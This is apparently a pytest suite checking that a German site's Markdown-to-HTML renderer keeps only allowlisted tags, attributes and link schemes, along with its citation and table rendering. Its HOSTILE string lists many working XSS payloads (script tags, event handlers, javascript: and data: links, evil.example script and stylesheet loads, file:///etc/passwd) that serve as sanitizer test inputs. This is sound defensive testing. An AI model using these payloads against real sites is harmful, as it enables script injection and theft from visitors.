"""Contributed Markdown becomes HTML that can do nothing but be read."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, cast

import html5lib
import pytest
from markupsafe import Markup, escape

from praxistransfer.theme.text_html import phrase_html, plain_html, prose_html

if TYPE_CHECKING:
    from xml.etree.ElementTree import Element

KNOWN = {"dosb": 1, "presse-2019": 2}
HREF = "#quelle-"

ALLOWED: dict[str, set[str]] = {
    "p": set(),
    "strong": set(),
    "em": set(),
    "ul": set(),
    "ol": {"start"},
    "li": set(),
    "a": {"href"},
    "table": set(),
    "thead": set(),
    "tbody": set(),
    "tr": set(),
    "th": {"scope", "class"},
    "td": {"class"},
    "code": set(),
    "blockquote": set(),
    "br": set(),
    "sup": {"class"},  # only the reference marks that are put in after cleaning
}

HOSTILE = """\
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x()&gt;">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example"><input name=p></form>
<button formaction="javascript:alert(1)">x</button>
<a href="javascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" \tjava\tscript:alert(1)">x</a>
<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0" target=_blank>x</a>
<p style="background:url(javascript:alert(1))" id="quelle-dosb" class="px-cite">x</p>
<style>@import 'https://evil.example/x.css';</style>
<link rel=stylesheet href="https://evil.example/x.css">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<base href="https://evil.example/">
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<details open ontoggle=alert(1)>x</details>
<video><source onerror="alert(1)"></video>
<body onload=alert(1)>
<!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><x a="?>"><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\nscript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](https://ok.example "onmouseover=alert(1)")
[x](https://ok.example/" onmouseover="alert(1))
[x](https://ok.example/?a='><script>alert(1)</script>)
[x](https://ok.example/?a>KI)
[x][boese] und mehr\n\n[boese]: javascript:alert(1)
<javascript:alert(1)>
<https://ok.example/"onmouseover=alert(1)>
![x](https://evil.example/zaehler.png)
![x](javascript:alert(1))
![x" onerror="alert(1)](x.png)
[![x](https://evil.example/a.png)](javascript:alert(1))
x [^dosb"><script>alert(1)</script>] y
x [^<img/src=x/onerror=alert(1)>] y
x [^unbekannt"onmouseover="alert(1)] y
[x](https://ok.example/[^dosb])
[x](https://ok.example/?quelle=[^dosb]&mehr=1)
<https://ok.example/?quelle=[^presse-2019]>
[^dosb]: javascript:alert(1)\n\nx [^dosb] y
[^dosb](javascript:alert(1))
[x](eintrag:sport"onmouseover="alert(1))
[x](eintrag:sport#"><script>alert(1)</script>)
{: onclick="alert(1)" }
x\n{: onmouseover=alert(1) }
{{ 7 * 7 }} {% import os %}
`<script>alert(1)</script>`
    <script>alert(1)</script>
```\n<script>alert(1)</script>\n```
> <script>alert(1)</script>
- <script>alert(1)</script>\n- [x](javascript:alert(1))
| a | <img src=x onerror=alert(1)> |\n|---|---|\n| b | c |
&lt;script&gt;alert(1)&lt;/script&gt;
\\<script\\>alert(1)\\</script\\>
*<script>*alert(1)*</script>*
<a\nhref=javascript:alert(1)>x</a>
<div>\n\n<script>alert(1)</script>\n\n</div>
<p markdown="1"><script>alert(1)</script></p>
<ol start="1" onfocus=alert(1) tabindex=0 autofocus><li>x</li></ol>
"""
PAYLOADS = [line.replace("\\n", "\n").replace("\\t", "\t") for line in HOSTILE.splitlines()]


class Page:
    """Does what a page does: numbers a known source, shows any other citation as it is."""

    def __init__(self, known: dict[str, int] = KNOWN, *, has_entries: bool = True) -> None:
        self._known = known
        self._has_entries = has_entries

    def cite(self, id_: str) -> str:
        if id_ not in self._known:
            return escape(f"[^{id_}]")
        number = self._known[id_]
        return f'<sup class="px-cite"><a href="{HREF}{id_}">{number}</a></sup>'

    def words(self, text: str, *, short: bool = False) -> str:  # noqa: ARG002
        return escape(text)

    def locate(self, id_: str) -> str:
        return f"../../handlungsfelder/{id_}/" if self._has_entries else ""


PAGE = Page()


def prose(text: str) -> str:
    return str(prose_html(text, PAGE))


def parse(html: str) -> Element:
    return cast("Element", html5lib.parseFragment(html, namespaceHTMLElements=False))


def elements(html: str) -> Iterator[Element]:
    return (element for element in parse(html).iter() if element.tag != "DOCUMENT_FRAGMENT")


def text_of(html: str) -> str:
    return " ".join("".join(parse(html).itertext()).split())


def faults(html: str) -> list[str]:
    """Name everything in HTML that is not on the list of what may be there."""
    found = []
    for element in elements(html):
        if not isinstance(element.tag, str) or element.tag not in ALLOWED:
            found.append(f"element {element.tag}")
            continue
        for name, value in element.attrib.items():
            if name not in ALLOWED[element.tag]:
                found.append(f"attribute {name} of {element.tag}")
            if name == "href" and not _is_harmless(value):
                found.append(f"address {value}")
    return found


def _is_harmless(href: str) -> bool:
    # Browsers overlook spaces around an address, and tabs and line ends anywhere in it.
    plain = re.sub(r"^[\x00-\x20]+|[\t\n\r]", "", href).lower()
    scheme = re.match(r"[a-z][a-z0-9+.-]*:", plain)
    return scheme is None or scheme[0] in {"http:", "https:", "eintrag:"}


def test_the_guard_of_these_tests_sees_what_it_must_not_let_through() -> None:
    for html in (
        "<script>alert(1)</script>",
        '<a href=" java\nscript:alert(1)">x</a>',
        '<a href="https://ok.example" onclick="alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        "<img src=x>",
        "<!-- x -->",
        '<a href="https://ok.example/<sup class="x">y</sup>">x</a>',
    ):
        assert faults(html), html
    assert not faults(prose("**a** [b](https://c.example) [^dosb] [d](eintrag:sport)"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload: str) -> None:
    assert not faults(prose(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives_inside_of_other_text(payload: str) -> None:
    for around in ("Vorher **fett** {} nachher [^dosb].", "- eins\n- {}\n\nEnde", "> {}"):
        assert not faults(prose(around.replace("{}", payload)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives_in_a_phrase(payload: str) -> None:
    assert not faults(str(phrase_html(payload, PAGE)))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_plain_text_stays_text(payload: str) -> None:
    html = str(plain_html(payload, PAGE))
    assert {element.tag for element in elements(html)} <= {"sup", "a"}
    assert not faults(html)
    shown = re.sub(r"\[\^(dosb|presse-2019)\]", lambda match: str(KNOWN[match[1]]), payload)
    assert text_of(html) == " ".join(shown.split())


@pytest.mark.parametrize(
    ("markdown", "html"),
    [
        ("*kursiv* und **fett**", "<p><em>kursiv</em> und <strong>fett</strong></p>"),
        ("eins\n\nzwei", "<p>eins</p><p>zwei</p>"),
        ("- eins\n- zwei", "<ul><li>eins</li><li>zwei</li></ul>"),
        ("1. eins\n2. zwei", "<ol><li>eins</li><li>zwei</li></ol>"),
        ("3. drei\n4. vier", '<ol start="3"><li>drei</li><li>vier</li></ol>'),
        ("> Zitat", "<blockquote><p>Zitat</p></blockquote>"),
        ("Zeile  \nneue Zeile", "<p>Zeile<br>neue Zeile</p>"),
        ("`Code`", "<p><code>Code</code></p>"),
        ("A & B, 5 < 6", "<p>A &amp; B, 5 &lt; 6</p>"),
        ("[Bericht](https://a.example/?x=1&y=2)", '<p><a href="https://a.example/?x=1&amp;y=2">Bericht</a></p>'),
        ("", ""),
        ("*a **b***", "<p><em>a <strong>b</strong></em></p>"),
        ("**[a *b*](https://x.de)**",
         '<p><strong><a href="https://x.de">a <em>b</em></a></strong></p>'),
        ("1. a\n   - b\n2. c", "<ol><li>a<ul><li>b</li></ul></li><li>c</li></ol>"),
        ("- a\n\n  b", "<ul><li><p>a</p><p>b</p></li></ul>"),
        ("- - a", "<ul><li><ul><li>a</li></ul></li></ul>"),
        ("| a |\n|--:|\n| *b* |",
         ('<table><thead><tr><th scope="col" class="px-right">a</th></tr></thead>'
         '<tbody><tr><td class="px-right"><em>b</em></td></tr></tbody></table>')),
    ],
)  # fmt: skip
def test_what_authors_need_works(markdown: str, html: str) -> None:
    assert re.sub(r"\n", "", prose(markdown)) == html


def test_a_link_to_an_entry_leads_to_its_page() -> None:
    html = prose("Siehe [Sport](eintrag:sport) und [Kultur](eintrag:kultur-2).")
    assert [element.get("href") for element in elements(html) if element.tag == "a"] == [
        "../../handlungsfelder/sport/",
        "../../handlungsfelder/kultur-2/",
    ]


def test_a_link_to_an_entry_that_does_not_exist_leads_nowhere() -> None:
    html = str(prose_html("Siehe [Sport](eintrag:sprot).", Page(has_entries=False)))
    assert html == "<p>Siehe <a>Sport</a>.</p>"


def test_text_that_looks_like_a_link_to_an_entry_is_no_link() -> None:
    text = 'So: href="eintrag:sport" und `href="eintrag:sport"`'
    assert text_of(prose(text)) == 'So: href="eintrag:sport" und href="eintrag:sport"'


def test_a_citation_becomes_the_number_of_its_source() -> None:
    assert prose("So war es.[^dosb][^presse-2019]") == (
        "<p>So war es."
        '<sup class="px-cite"><a href="#quelle-dosb">1</a></sup>'
        '<sup class="px-cite"><a href="#quelle-presse-2019">2</a></sup></p>'
    )


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("Es waren 34.[^dosb] Mehr nicht.", "Es waren 34.1 Mehr nicht."),
        ("Es waren 34[^dosb](Stand 2019).", "Es waren 341(Stand 2019)."),
        ("Es waren 34[^dosb][siehe oben].", "Es waren 341[siehe oben]."),
        ("[^dosb]: So war es.", "1: So war es."),
        ("[^dosb]: 2019", "1: 2019"),
        ("- [^dosb]", "1"),
        ("**fett[^dosb]**", "fett1"),
        ("[Bericht[^dosb]](https://a.example)", "Bericht1"),
        ("Laut[^presse-2019] und[^dosb]", "Laut2 und1"),
    ],
)
def test_a_citation_is_one_wherever_it_stands(markdown: str, shown: str) -> None:
    html = prose(markdown)
    assert text_of(html) == shown
    hrefs = [element.get("href") or "" for element in elements(html) if element.tag == "a"]
    assert {href for href in hrefs if not href.startswith("https:")} <= {
        f"{HREF}{id_}" for id_ in KNOWN
    }


def test_an_address_that_looks_like_a_citation_stays_an_address() -> None:
    html = prose("[x](https://a.example/[^dosb])")
    assert [element.get("href") for element in elements(html)][1:] == [
        "https://a.example/%5B%5Edosb%5D"
    ]


def test_code_shows_the_notation_of_a_citation() -> None:
    assert text_of(prose("So geht ein Beleg: `[^dosb]`")) == "So geht ein Beleg: [^dosb]"


def test_a_phrase_loses_the_paragraph_around_it() -> None:
    assert phrase_html("Ein **Satz**.[^dosb]", PAGE).startswith("Ein <strong>Satz</strong>")
    assert "<p>" not in phrase_html("Ein **Satz**.", PAGE)


def test_a_wide_table_scrolls_in_a_frame_that_says_what_it_is() -> None:
    (frame,) = (item for item in elements(prose("|a|b|c|d|*e*|\n|-|-|-|-|-|")) if item.tag == "div")
    assert frame.attrib == {
        "class": "px-scroll",
        "role": "group",
        "tabindex": "0",
        "aria-label": "Tabelle: a, b, c, d, e",
    }


@pytest.mark.parametrize("text", ["eins\n\nzwei", "- eins", "> eins", "eins\n\n- zwei"])
def test_more_than_a_phrase_keeps_its_blocks(text: str) -> None:
    assert phrase_html(text, PAGE) == prose_html(text, PAGE)


def test_one_text_does_not_change_the_next() -> None:
    prose("[x][y]\n\n[y]: https://a.example")
    assert text_of(prose("[x][y]")) == "[x][y]"


def test_the_same_text_is_cited_anew_on_each_page() -> None:
    assert ">1</a>" in prose("a[^dosb]")
    assert ">7</a>" in prose_html("a[^dosb]", Page({"dosb": 7}))


def test_prose_is_marked_as_safe_for_templates() -> None:
    for html in (prose_html("a", PAGE), phrase_html("a", PAGE)):
        assert isinstance(html, Markup)
    assert isinstance(plain_html("a", PAGE), Markup)
